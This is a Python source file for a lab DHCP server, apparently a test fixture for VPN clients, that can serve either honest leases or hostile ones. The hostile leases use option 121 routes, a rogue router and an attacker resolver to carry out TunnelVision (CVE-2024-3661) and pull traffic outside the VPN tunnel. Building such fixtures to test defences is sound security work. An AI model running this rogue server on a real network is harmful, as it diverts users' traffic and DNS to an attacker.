"""dhcp.py: a DHCP server (RFC 2131) for whoever asks on the LAN; runs in `isp` until ended. Its own address is on the far
side of the router, as an ISP's server's often is: a renewal is a unicast datagram to a host beyond the LAN.

/run/lab/dhcp.says holds what a lease says: `honest`, or `hostile`. A hostile one names another router, a resolver and a search
domain of its giver's, and by option 121 routes for everything, the tunnel's own network included (TunnelVision,
CVE-2024-3661). /run/lab/dhcp.log has one `ack WAY WHAT` a lease given: `ack unicast hostile` is a renewal.
"""

import ipaddress
import socket
import struct

RUN = "/run/lab/"
CLIENT, ROUTER, OTHER_ROUTER = "192.168.1.10", "192.168.1.1", "192.168.1.254"
SERVER, INET = "203.0.113.5", "203.0.113.80"
COOKIE = b"\x63\x82\x53\x63"
DISCOVER, OFFER, REQUEST, ACK = 1, 2, 3, 5
IP_PKTINFO = 8  # linux/in.h; Python 3.11 has no name for it


def addresses(*names):
    return b"".join(socket.inet_aton(name) for name in names)


def route(net, router):
    """RFC 3442: the prefix's length, its significant bytes, the router."""
    net = ipaddress.ip_network(net)
    return bytes([net.prefixlen]) + net.network_address.packed[: (net.prefixlen + 7) // 8] + addresses(router)


def lease(kind, says):
    # Renewed after five minutes, or when the client is told to.
    options = {53: bytes([kind]), 54: addresses(SERVER), 51: struct.pack("!I", 600), 1: addresses("255.255.255.0")}
    if says == "hostile":
        nets = ("0.0.0.0/0", "0.0.0.0/1", "128.0.0.0/1", f"{INET}/32", "10.2.0.0/24", "203.0.113.11/32")
        more = {3: addresses(OTHER_ROUTER), 6: addresses(INET), 15: b"evil.lab", 121: b"".join(route(n, OTHER_ROUTER) for n in nets)}
    else:
        more = {3: addresses(ROUTER), 6: addresses(ROUTER), 15: b"home.arpa"}
    return {**options, **more}


def parse(data):
    """The options by number; None for what is no DHCP request."""
    if len(data) < 241 or data[0] != 1 or data[236:240] != COOKIE:
        return None
    options, at = {}, 240
    while at + 1 < len(data) and data[at] != 255:
        if data[at] == 0:
            at += 1
            continue
        options[data[at]] = data[at + 2 : at + 2 + data[at + 1]]
        at += 2 + data[at + 1]
    return options


def answer(request, options):
    head = bytearray(request[:236])
    head[0] = 2
    head[16:24] = addresses(CLIENT, SERVER)
    body = b"".join(bytes([n, len(value)]) + value for n, value in options.items())
    return bytes(head) + COOKIE + body + b"\xff"


server = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
server.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, b"lan0")
server.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
server.setsockopt(socket.IPPROTO_IP, IP_PKTINFO, 1)
server.bind(("", 67))
with open(RUN + "dhcp.log", "w", buffering=1) as log:
    while True:
        request, said, _, _ = server.recvmsg(1500, 64)
        options = parse(request)
        kind = options[53][0] if options and 53 in options else 0
        if kind not in (DISCOVER, REQUEST) or options.get(54, addresses(SERVER)) != addresses(SERVER):
            continue
        with open(RUN + "dhcp.says") as f:
            says = f.read().strip()
        to = next(data[8:12] for _, number, data in said if number == IP_PKTINFO)
        is_unicast = to == addresses(SERVER)
        reply = answer(request, lease(OFFER if kind == DISCOVER else ACK, says))
        # From the address that the client knows, to the one it has or to all.
        source = (socket.IPPROTO_IP, IP_PKTINFO, struct.pack("!I4s4s", 0, addresses(SERVER), bytes(4)))
        server.sendmsg([reply], [source], 0, (CLIENT if is_unicast else "255.255.255.255", 68))
        if kind == REQUEST:
            print("ack", "unicast" if is_unicast else "broadcast", says, file=log)
